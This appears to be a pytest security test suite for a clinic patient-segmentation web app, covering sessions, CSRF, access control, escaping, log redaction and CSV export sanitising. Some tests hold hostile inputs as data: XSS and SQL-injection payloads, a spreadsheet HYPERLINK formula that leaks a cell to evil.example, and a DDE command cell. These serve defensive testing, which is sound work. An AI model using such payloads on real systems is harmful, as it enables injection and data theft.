"""Who may do what in the web app: sign-in, sessions, CSRF, private lists, escaping, logs."""

from __future__ import annotations

import logging

import pytest

from tests.webapp.conftest import DESK, LOCKED, PASSWORD, PRIYA, SAM, csrf_of, shipped, sign_in

pytestmark = pytest.mark.filterwarnings("ignore::DeprecationWarning")
PRIVATE_SLUG = "priyas-follow-ups"


def test_every_page_needs_a_signed_in_session(client_of):
    client = client_of()
    for url in ("/segments", "/segments/lapsed-physio-6-12mo", "/builder", "/worklists",
                "/worklists/lapsed-physio-6-12mo", "/segments/lapsed-physio-6-12mo/members.csv"):
        response = client.get(url, follow_redirects=False)
        assert response.status_code == 303 and response.headers["location"] == "/signin", url


def test_a_session_id_planted_before_sign_in_is_worthless_after_it(client_of):
    from fastapi.testclient import TestClient

    client = client_of()
    client.get("/signin")
    planted = client.cookies.get("clinic_audiences_session")
    assert sign_in(client, DESK).status_code == 303
    signed_in = client.cookies.get("clinic_audiences_session")
    assert signed_in and signed_in != planted
    # The attacker who planted the old id gets nothing with it.
    attacker = TestClient(client.app, cookies={"clinic_audiences_session": planted})
    response = attacker.get("/segments", follow_redirects=False)
    assert response.status_code == 303 and response.headers["location"] == "/signin"
    # The cookie is out of scripts' reach and not sent cross-site.
    header = sign_in(client_of(), DESK).headers["set-cookie"].lower()
    assert "httponly" in header and "samesite=strict" in header


def test_wrong_credentials_say_nothing_about_which_and_are_throttled(client_of):
    client = client_of()
    unknown = sign_in(client, "nobody@clinic.example", "whatever-password")
    wrong = sign_in(client, LOCKED, "not the password at all")
    assert unknown.status_code == wrong.status_code == 401
    assert "wrong email or password" in unknown.text and "wrong email or password" in wrong.text
    for _ in range(4):
        sign_in(client, LOCKED, "still not the password")
    # Five failures within the window: even the right password is refused for now.
    throttled = sign_in(client, LOCKED, PASSWORD)
    assert throttled.status_code == 401 and "too many failed sign-ins" in throttled.text


def test_a_state_changing_request_without_the_session_token_is_refused(client_of):
    client = client_of(DESK)
    board = client.get("/worklists/lapsed-physio-6-12mo").text
    token = csrf_of(board)
    member = board.split('data-member="')[1].split('"')[0]
    version = board.split('data-version="')[1].split('"')[0]
    move = {"member_id": member, "stage": "Booked", "version": version}
    assert client.post("/worklists/lapsed-physio-6-12mo/move", data=move).status_code == 403
    assert client.post("/worklists/lapsed-physio-6-12mo/move",
                       data={**move, "csrf": "forged"}).status_code == 403  # fmt: skip
    # Another user's token does not do either.
    other = csrf_of(client_of(SAM).get("/worklists").text)
    assert client.post("/worklists/lapsed-physio-6-12mo/move",
                       data={**move, "csrf": other}).status_code == 403  # fmt: skip
    assert client.post("/signout", data={}).status_code == 403
    assert client.post("/builder/preview", data={"definition": "x"}).status_code == 403
    # With its own token the move goes through.
    done = client.post("/worklists/lapsed-physio-6-12mo/move", data={**move, "csrf": token},
                       follow_redirects=False)  # fmt: skip
    assert done.status_code == 303


def test_a_private_segment_and_its_work_list_do_not_exist_for_anyone_else(client_of):
    owner, other = client_of(PRIYA), client_of(SAM)
    assert PRIVATE_SLUG in owner.get("/segments").text
    assert PRIVATE_SLUG not in other.get("/segments").text
    assert PRIVATE_SLUG not in other.get("/worklists").text
    for url in (f"/segments/{PRIVATE_SLUG}", f"/segments/{PRIVATE_SLUG}/members.csv",
                f"/worklists/{PRIVATE_SLUG}", f"/builder?start={PRIVATE_SLUG}"):
        assert other.get(url).status_code == 404, url
        assert owner.get(url).status_code == 200, url
    # Not even a move on it.
    token = csrf_of(other.get("/worklists").text)
    refused = other.post(f"/worklists/{PRIVATE_SLUG}/move",
                         data={"member_id": "1", "stage": "Called", "version": "1", "csrf": token})
    assert refused.status_code == 404


def test_html_and_sql_in_names_and_values_are_text(client_of, settings):
    import duckdb

    client = client_of(DESK)
    # The user's own name carries markup: shown as text.
    assert "Front Desk &lt;b&gt;" in client.get("/segments").text
    token = csrf_of(client.get("/builder").text)
    evil = (
        'name: "<script>alert(1)</script>"\nentity: patient\ninclude:\n  match: all\n'
        "  conditions:\n    - {field: last_name, op: eq, value: \"x'; drop table "
        'marts.patient_features; --"}\n'
    )
    response = client.post("/builder/preview", data={"definition": evil, "csrf": token})
    assert response.status_code == 200
    assert "<script>alert(1)</script>" not in response.text
    assert 'id="count">0<' in response.text
    bad = client.post("/builder/preview",
                      data={"definition": evil.replace("last_name", "<img src=x onerror=alert(1)>"),
                            "csrf": token})  # fmt: skip
    assert "<img" not in bad.text and "&lt;img" in bad.text
    with duckdb.connect(str(settings.duckdb_path), read_only=True) as con:
        assert con.sql("select count(*) from marts.patient_features").fetchall()[0][0] > 0


def test_no_password_or_patient_contact_detail_reaches_a_log(client_of, caplog, settings):
    import duckdb

    with duckdb.connect(str(settings.duckdb_path), read_only=True) as con:
        email, mobile = con.sql("select email, mobile from marts.patient_features where "
                                "email is not null and mobile is not null limit 1").fetchall()[0]
    caplog.set_level(logging.DEBUG)
    client = client_of()
    sign_in(client, DESK, "a wrong secret password")
    client = client_of(DESK)
    client.get("/segments/lapsed-physio-6-12mo")
    client.get("/segments/lapsed-physio-6-12mo/members.csv")
    client.get("/worklists/lapsed-physio-6-12mo")
    logged = "\n".join(r.getMessage() for r in caplog.records)
    for secret in (PASSWORD, "a wrong secret password", email, mobile):
        assert secret not in logged


def test_views_and_exports_of_member_lists_are_audited(client_of, settings):
    from webapp import accounts

    client = client_of(SAM)
    client.get("/segments/dormant-24mo")
    export = client.get("/segments/dormant-24mo/members.csv")
    assert export.status_code == 200 and export.text.startswith("patient_id,case_id,")
    rows = accounts.audit_log(accounts.open_accounts(settings.state_db_url))
    mine = [(email, action, target) for _, email, action, target in rows if email == SAM]
    assert ("sam@clinic.example", "exported", "segment dormant-24mo") in mine
    assert ("sam@clinic.example", "viewed", "segment dormant-24mo") in mine


def test_the_live_count_is_the_count_of_audiences_preview(client_of, capsys):
    from clinic_audiences.cli import main
    from tests.webapp.conftest import DAY

    path = shipped("lapsed-physio-6-12mo")
    assert main(["preview", str(path), "--as-of", DAY.isoformat()]) == 0
    expected = capsys.readouterr().out.split("members: ")[1].split()[0]
    client = client_of(DESK)
    token = csrf_of(client.get("/builder").text)
    response = client.post("/builder/preview", data={"definition": path.read_text(),
                                                     "csrf": token})  # fmt: skip
    assert f'id="count">{int(expected):,}<' in response.text


def test_explaining_a_member_and_a_non_member(client_of, settings):
    import duckdb

    client = client_of(DESK)
    with duckdb.connect(str(settings.duckdb_path), read_only=True) as con:
        member = con.sql("select patient_id from segments.membership where segment_slug = "
                         "'lapsed-physio-6-12mo' limit 1").fetchall()[0][0]
        outsider = con.sql("select patient_id from marts.patient_features where patient_id "
                           "not in (select patient_id from segments.membership where "
                           "segment_slug = 'lapsed-physio-6-12mo') limit 1").fetchall()[0][0]
    inside = client.get(f"/segments/lapsed-physio-6-12mo/explain?patient={member}").text
    assert "in the segment" in inside and "not in the segment" not in inside
    outside = client.get(f"/segments/lapsed-physio-6-12mo/explain?patient={outsider}").text
    assert "not in the segment" in outside and "✗" in outside
    # Someone else's private segment cannot be explained either.
    assert client.get("/segments/priyas-follow-ups/explain?patient=1").status_code == 404


def test_an_export_never_hands_a_spreadsheet_a_formula():
    from webapp.app import spreadsheet_safe

    # What a patient's name may say in the extract, and what the cell becomes.
    assert spreadsheet_safe('=HYPERLINK("http://evil.example/?"&A1,"x")') == (
        '\'=HYPERLINK("http://evil.example/?"&A1,"x")')
    for cell in ("+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\tx", "\rx"):
        assert spreadsheet_safe(cell) == "'" + cell
    assert spreadsheet_safe("Mia Chen") == "Mia Chen" and spreadsheet_safe(42) == 42


def test_someone_guessing_from_elsewhere_cannot_lock_the_owner_out(settings):
    from webapp import accounts

    engine = accounts.open_accounts(settings.state_db_url)
    accounts.add_user(engine, "target@clinic.example", "T", "staff", PASSWORD)
    for _ in range(6):
        with pytest.raises(accounts.SignInRefused):
            accounts.sign_in(engine, "target@clinic.example", "guess guess guess",
                             client="203.0.113.9")  # fmt: skip
    with pytest.raises(accounts.SignInRefused, match="too many"):
        accounts.sign_in(engine, "target@clinic.example", PASSWORD, client="203.0.113.9")
    # The owner, at their own desk, still gets in.
    assert accounts.sign_in(engine, "target@clinic.example", PASSWORD, client="10.0.0.5").user


def test_pages_out_of_range_wildcards_and_unknown_pages_are_plain_answers(client_of):
    client = client_of(DESK)
    huge = client.get("/segments/dormant-24mo?page_no=999999999999999999999")
    assert huge.status_code == 200 and "Page " in huge.text
    assert "Content-Security-Policy" in huge.headers
    bad = client.get("/segments/dormant-24mo?page_no=x")
    assert bad.status_code == 400 and "detail" not in bad.text
    missing = client.get("/no/such/page")
    assert missing.status_code == 404 and "no such page" in missing.text
    # % and _ are letters in a search, not "everyone".
    for q in ("%", "_"):
        page = client.get(f"/segments/dormant-24mo/explain?q={q}")
        assert "No patient matches." in page.text


def test_a_pause_says_which_or_is_refused(client_of):
    client = client_of(DESK)
    page = client.get("/campaigns").text
    slug = page.split('data-campaign="')[1].split('"')[0]
    token = csrf_of(page)
    assert client.post(f"/campaigns/{slug}/pause", data={"csrf": token}).status_code == 400
    assert client.post(f"/campaigns/{slug}/pause",
                       data={"csrf": token, "paused": "maybe"}).status_code == 400  # fmt: skip


def test_while_a_run_holds_the_warehouse_the_app_stays_out_of_its_way(client_of, settings):
    from core.run_lock import hold_warehouse

    client = client_of(DESK)
    with hold_warehouse(settings.duckdb_path, "a test run"):
        busy = client.get("/segments/dormant-24mo")
        assert busy.status_code == 503 and "try again in a minute" in busy.text
    assert client.get("/segments/dormant-24mo").status_code == 200


def test_a_writer_waits_for_a_short_reader_instead_of_failing(tmp_path):
    import time

    from core.warehouse import connect

    db = tmp_path / "w.duckdb"
    with connect(db) as con:
        con.execute("create table t as select 1 as x")
    import subprocess
    import sys

    # A reader in another process (as the web app is), holding the file for half a second.
    probe = subprocess.Popen([sys.executable, "-c", (
        "import duckdb, sys, time; c = duckdb.connect(sys.argv[1], read_only=True); "
        "print('open', flush=True); time.sleep(0.8); c.close()"), str(db)],
        stdout=subprocess.PIPE, text=True)  # fmt: skip
    assert probe.stdout.readline().strip() == "open"
    started = time.monotonic()
    with connect(db) as con:  # waits, then writes
        con.execute("insert into t values (2)")
    assert time.monotonic() - started > 0.3
    probe.wait(timeout=10)


def test_staff_browsing_during_a_pipeline_run_does_not_break_it(client_of, clinic, settings):
    import subprocess
    import sys

    from tests.webapp.conftest import DAY

    client = client_of(DESK)
    extract = str(settings.duckdb_path.parent / "extract")
    run = subprocess.Popen(
        [sys.executable, "-m", "clinic_audiences.cli", "run", "--extracts", extract,
         "--as-of", DAY.isoformat(), "--select", "segments,worklists"],
        env={**__import__("os").environ, **clinic}, stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT, text=True,
    )  # fmt: skip
    answers = set()
    while run.poll() is None:
        answers.add(client.get("/segments/dormant-24mo").status_code)
    output = run.stdout.read()
    assert run.returncode == 0, output[-3000:]
    assert answers <= {200, 503}


def test_who_entered_and_left_this_week_and_board_filters(client_of, settings):
    import duckdb

    client = client_of(DESK)
    page = client.get("/segments/lapsed-physio-6-12mo").text
    with duckdb.connect(str(settings.duckdb_path), read_only=True) as con:
        entered = con.sql("select count(*) from segments.membership_history where segment_slug "
                          "= 'lapsed-physio-6-12mo' and entered_on > date '2026-11-13' and "
                          "entered_on <= date '2026-11-20'").fetchall()[0][0]  # fmt: skip
    # The clinic was built for one day: everyone entered then, within the week.
    shown = min(entered, 50)
    assert f"Entered this week ({shown}" in page and "Left this week (0)" in page
    mine = client.get("/worklists/lapsed-physio-6-12mo?show=mine").text
    # Nobody is assigned to the front desk in the test clinic: no cards under "Mine".
    assert 'class="card"' not in mine and 'aria-current="page">Mine' in mine
    unassigned = client.get("/worklists/lapsed-physio-6-12mo?show=unassigned").text
    assert unassigned.count('class="card"') > 0
